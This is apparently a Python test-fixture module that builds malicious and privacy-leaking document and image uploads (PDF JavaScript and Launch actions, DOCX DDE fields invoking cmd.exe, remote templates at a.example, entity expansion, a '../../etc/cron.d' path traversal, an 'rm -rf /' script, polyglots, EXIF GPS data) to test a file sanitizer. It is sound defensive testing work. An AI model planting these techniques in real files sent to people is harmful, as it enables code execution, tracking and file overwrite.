"""Files that somebody hostile, or somebody careless, would send; made here, none is kept anywhere."""

import io
import re
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

SECRET = "CANARY-HIDDEN"


def picture(form="JPEG", size=(60, 40), **saved):
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, form, **saved)
    return out.getvalue()


def exif():
    """Return where and with what a photo was taken, and by whom."""
    told = Image.Exif()
    told[0x010F], told[0x013B], told[0x9286] = SECRET, SECRET, SECRET
    told.get_ifd(0x8825).update({1: "N", 2: (44.0, 58.0, 12.0), 3: "W", 4: (93.0, 15.0, 54.0), 29: SECRET})
    return told


def photo(form="JPEG"):
    return picture(form, exif=exif())


def with_comment():
    plain = picture()
    return plain[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(SECRET)) + SECRET.encode() + plain[2:]


def png_piece(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width, height):
    """Return a PNG that says it is as large as that, and is small itself."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 100_000, 9)
    pieces = ((b"IHDR", head), (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_piece(*piece) for piece in pieces)


def png_with_text():
    plain = picture("PNG")
    return plain[:33] + png_piece(b"tEXt", b"Author\0" + SECRET.encode()) + plain[33:]


def pdf(change=None, **saved):
    made = pikepdf.new()
    made.add_blank_page(page_size=(300, 300))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **saved)
    return out.getvalue()


def script(text=SECRET):
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{text}')"))


def _opens_with_script(made):
    made.Root.OpenAction = script()


def _named_script(made):
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def _script_of_a_page(made):
    made.pages[0].obj["/AA"] = Dictionary(O=script())


def _launches(made, kind=Name.Launch):
    launch = Dictionary(S=kind, F=String(f"{SECRET}.exe"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=launch)
    made.pages[0].obj["/Annots"] = Array([link])


def _script_after_script(made):
    link = Dictionary(S=Name.URI, URI=String("https://a.example"), Next=Array([script()]))
    made.pages[0].obj["/Annots"] = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=link)]
    )


def _sends_a_form(made):
    made.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String(f"https://{SECRET}.example"))


def _says_who(made):
    made.docinfo["/Author"] = SECRET
    with made.open_metadata() as told:
        told["dc:creator"] = [SECRET]


def leads_to(address):
    """Return what puts a link to an address on the page."""

    def change(made):
        made.pages[0].obj["/Annots"] = Array(
            [
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([0, 0, 9, 9]),
                    A=Dictionary(S=Name.URI, URI=String(address)),
                )
            ]
        )

    return change


def _photo_packed_again(made):
    _photo_inside(made)
    image = made.pages[0].obj.Resources.XObject.I
    image.write(
        zlib.compress(image.read_raw_bytes()),
        filter=Array([Name.FlateDecode, Name.DCTDecode]),
        decode_parms=Array([Dictionary(Predictor=1), Dictionary(ColorTransform=1)]),
    )


def _photo_inside(made):
    image = Stream(made, photo())
    image.update(
        {
            "/Type": Name.XObject,
            "/Subtype": Name.Image,
            "/Width": 60,
            "/Height": 40,
            "/ColorSpace": Name.DeviceRGB,
            "/BitsPerComponent": 8,
            "/Filter": Name.DCTDecode,
        }
    )
    made.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(I=made.make_indirect(image)))


def _file_inside(made):
    made.attachments["a.exe"] = b"MZ"


def _made_form(made):
    made.Root.AcroForm = Dictionary(XFA=Stream(made, b"<xdp/>"), Fields=Array([]))


def _film(made):
    made.pages[0].obj["/Annots"] = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))]
    )


OFFICE = "application/vnd.openxmlformats-officedocument"
DOCX = {
    "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="{OFFICE}'
    '.wordprocessingml.document.main+xml"/></Types>',
    "_rels/.rels": '<Relationships><Relationship Id="r1" Type="x/officeDocument" Target="word/document.xml"/>'
    "</Relationships>",
    "word/document.xml": '<?xml version="1.0"?><w:document><w:p>Hello</w:p></w:document>',
}
ODT = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "content.xml": "<office:document-content><text:p>Hello</text:p></office:document-content>",
    "META-INF/manifest.xml": "<manifest:manifest/>",
}


ODF = "urn:oasis:names:tc:opendocument:xmlns"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NAMES = {
    "w": W,
    "xlink": "http://www.w3.org/1999/xlink",
    "draw": f"{ODF}:drawing:1.0",
    **{name: f"{ODF}:{name}:1.0" for name in ("office", "text", "script", "manifest")},
    **{name: f"urn:example:{name}" for name in ("dc", "cp")},
}


def declared(part):
    """Return XML in which every prefix means something, as in what a word processor writes."""
    if not isinstance(part, str):
        return part
    used = [name for name in NAMES if f"<{name}:" in part or f" {name}:" in part]
    said = "".join(f' xmlns:{name}="{NAMES[name]}"' for name in used)
    return re.sub(r"<([a-zA-Z][\w:-]*)", rf"<\1{said}", part, count=1)


def packed(parts, how=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as made:
        for name, part in parts.items():
            made.writestr(name, declared(part))
    return out.getvalue()


def docx_with(name, part):
    return packed(DOCX | {name: part})


def odt_with(name, part):
    return packed(ODT | {name: part})


def relation(kind, target):
    return (
        f'<Relationships><Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )


def _twice():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, part in DOCX.items():
            made.writestr(name, part)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            made.writestr("word/document.xml", "<other/>")
    return out.getvalue()


def _page_of(words):
    return f"<w:document>{words}</w:document>"


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><w:document>&b;</w:document>'
SPREAD_DDE = "<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText>"

RELS, TEMPLATE = "word/_rels/settings.xml.rels", "attachedTemplate"
REFUSED: dict[str, tuple[str, bytes]] = {
    "nothing": ("empty", b""),
    "a program for Windows": ("kind", b"MZ\x90\x00" + b"\0" * 60),
    "a program for Linux": ("kind", b"\x7fELF" + b"\0" * 60),
    "a page": ("kind", b"<html><script>alert(1)</script>"),
    "a picture with script": ("kind", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
    "a script": ("kind", b"#!/bin/sh\nrm -rf /\n"),
    "a letter with parts": ("kind", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>"),
    "rich text": ("kind", b"{\\rtf1\\ansi {\\object}}"),
    "a GIF": ("kind", b"GIF89a" + b"\0" * 20),
    "an old Word document": ("kind", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "a gzip": ("kind", b"\x1f\x8b\x08" + b"\0" * 20),
    "text with a NUL": ("kind", b"Hello\0world"),
    "text, then a package": ("kind", b"Hello\n" + packed({"a": "b"})),
    "a plain package": ("kind", packed({"a.txt": "b"})),
    "a JAR": ("kind", packed({"META-INF/MANIFEST.MF": "x", "A.class": "y"})),
    "a spreadsheet": ("kind", packed({"[Content_Types].xml": "spreadsheetml.sheet.main+xml"})),
    "a photo of a telephone": ("heic", b"\0\0\0\x18ftypheic" + b"\0" * 40),
    "a JPEG that ends": ("broken", picture()[:200]),
    "a PNG that is none": ("broken", b"\x89PNG\r\n\x1a\n" + b"x" * 50),
    "a picture without end": ("huge", png_of(60_000, 60_000)),
    "a PDF that is none": ("broken", b"%PDF-1.7\nnothing"),
    "a PDF with a password": ("locked", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))),
    "a PDF with a file inside": ("embedded", pdf(_file_inside)),
    "a PDF with a form that runs": ("active", pdf(_made_form)),
    "a PDF with a film": ("active", pdf(_film)),
    "a docx with macros": ("active", docx_with("word/vbaProject.bin", b"\xd0\xcf")),
    "a docm": (
        "active",
        packed({"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
    ),
    "a docx with a control": ("active", docx_with("word/activeX/activeX1.xml", "<ax/>")),
    "a docx with a file inside": ("embedded", docx_with("word/embeddings/a.xlsx", b"PK")),
    "a docx with a template from elsewhere": (
        "active",
        docx_with("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://a.example/t.dotm")),
    ),
    "a docx with a picture from elsewhere": (
        "active",
        docx_with("word/_rels/document.xml.rels", relation("image", "https://a.example/seen.png")),
    ),
    "a docx that unpacks entities": ("active", docx_with("word/document.xml", LAUGHS)),
    "the same in UTF-16": ("active", docx_with("word/document.xml", LAUGHS.encode("utf-16"))),
    **{
        f"a docx that hides {what}": ("active" if what != "its encoding" else "broken", docx_with(name, part))
        for what, (name, part) in {
            "how it reaches out": (
                RELS,
                relation(TEMPLATE, "http://a.example").replace("External", "Extern&#97;l"),
            ),
            "it behind a sign": (RELS, relation(TEMPLATE, "http://a.example/?>")),
            "it in capitals": ("word/_rels/settings.xml.RELS", relation(TEMPLATE, "http://a.example")),
            "its encoding": (RELS, relation(TEMPLATE, "http://a.example").encode("utf-16-le")),
            "a program behind a prefix": (
                "word/document.xml",
                f'<y:instrText xmlns:y="{W}">DDE c:</y:instrText>',
            ),
            "a program behind a reference": (
                "word/document.xml",
                _page_of("<w:instrText>D&#68;E</w:instrText>"),
            ),
            "a page under a name": ("word/page.dat", f'<y:altChunk xmlns:y="{W}"/>'),
        }.items()
    },
    "an odt that hides a picture from elsewhere": (
        "active",
        odt_with("content.xml", "<draw:image xlink:href='https://a.example/seen.png'/>"),
    ),
    "a docx that starts a program": ("active", docx_with("word/document.xml", _page_of(SPREAD_DDE))),
    "a docx that unpacks without end": ("huge", docx_with("word/media/a.png", b"\0" * 110_000_000)),
    "a docx with thousands of parts": ("huge", packed(DOCX | {f"word/{n}.xml": "" for n in range(2_001)})),
    "a docx with a way out": ("broken", docx_with("../../etc/cron.d/a", "x")),
    "a docx with a part twice": ("broken", _twice()),
    "a docx that ends": ("broken", packed(DOCX)[:120]),
    "a docx with a picture that ends": ("broken", docx_with("word/media/a.jpg", b"\xff\xd8\xff\xe1")),
    "an odt with macros": ("active", odt_with("Basic/Standard/a.xml", "<x/>")),
    "an odt that runs when it is opened": (
        "active",
        odt_with("content.xml", '<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
    ),
    "an odt with a picture from elsewhere": (
        "active",
        odt_with("content.xml", '<draw:image xlink:href="https://a.example/seen.png"/>'),
    ),
    "an odt with a password": (
        "locked",
        odt_with("META-INF/manifest.xml", "<m><manifest:encryption-data/></m>"),
    ),
    "an odt with another document inside": ("active", odt_with("Object 1/content.xml", "<x/>")),
}
"""What is not taken in, and why."""

CLEANED: dict[str, tuple[str, bytes]] = {
    "a photo with its place": ("jpeg", photo()),
    "a PNG with its place": ("png", photo("PNG")),
    "a WebP with its place": ("webp", photo("WEBP")),
    "a JPEG with a comment": ("jpeg", with_comment()),
    "a PNG with its author": ("png", png_with_text()),
    "a JPEG that is a package too": ("jpeg", picture() + packed({"a": SECRET}, zipfile.ZIP_STORED)),
    "a PNG that is a page too": ("png", picture("PNG") + f"<script>{SECRET}</script>".encode()),
    "a JPEG with a profile": ("jpeg", picture(icc_profile=SECRET.encode() * 20)),
    "a PDF that opens with a script": ("pdf", pdf(_opens_with_script)),
    "a PDF with a named script": ("pdf", pdf(_named_script)),
    "a PDF with a script of a page": ("pdf", pdf(_script_of_a_page)),
    "a PDF that starts a program": ("pdf", pdf(_launches)),
    "a PDF that says so in a text": ("pdf", pdf(lambda made: _launches(made, String("Launch")))),
    "a PDF with a script after a link": ("pdf", pdf(_script_after_script)),
    "a PDF that sends a form": ("pdf", pdf(_sends_a_form)),
    "a PDF that says who wrote it": ("pdf", pdf(_says_who)),
    "a PDF with a photo with its place": ("pdf", pdf(_photo_inside)),
    "a PDF with a photo that was packed again": ("pdf", pdf(_photo_packed_again)),
    "a PDF that leads into the computer": ("pdf", pdf(leads_to(f"FILE:///{SECRET}"))),
    "a PDF that leads to a script": ("pdf", pdf(leads_to(f"javascript:{SECRET}"))),
    "a PDF that leads to another by its thread": ("pdf", pdf(lambda made: _launches(made, Name.Thread))),
    "a PDF that may not be printed": ("pdf", pdf(encryption=pikepdf.Encryption(owner=SECRET))),
    "a PDF that is a package too": ("pdf", pdf() + packed({"a": SECRET}, zipfile.ZIP_STORED)),
    "a docx that says who wrote it": (
        "docx",
        docx_with("docProps/core.xml", f"<cp:coreProperties><dc:creator>{SECRET}</dc:creator></cp:coreProperties>"),
    ),
    "a docx with a comment by somebody": (
        "docx",
        docx_with("word/comments.xml", f'<w:comment w:author="{SECRET}" w:initials="{SECRET}">Hm</w:comment>'),
    ),
    "a docx with a remark by somebody in single quotes": (
        "docx",
        docx_with("word/comments.xml", f"<w:comment w:author='{SECRET}' w:initials = '{SECRET}'>Hm</w:comment>"),
    ),
    "a docx with a photo with its place": ("docx", docx_with("word/media/a.jpg", photo())),
    "a docx after something else": ("docx", packed(DOCX) + SECRET.encode()),
    "an odt that says who wrote it": ("odt", odt_with("meta.xml", f"<dc:creator>{SECRET}</dc:creator>")),
    "an odt with a remark by somebody": (
        "odt",
        odt_with("content.xml", f"<office:annotation><dc:creator>{SECRET}</dc:creator></office:annotation>"),
    ),
}  # fmt: skip
"""What is taken in, as what kind, without what it hid."""
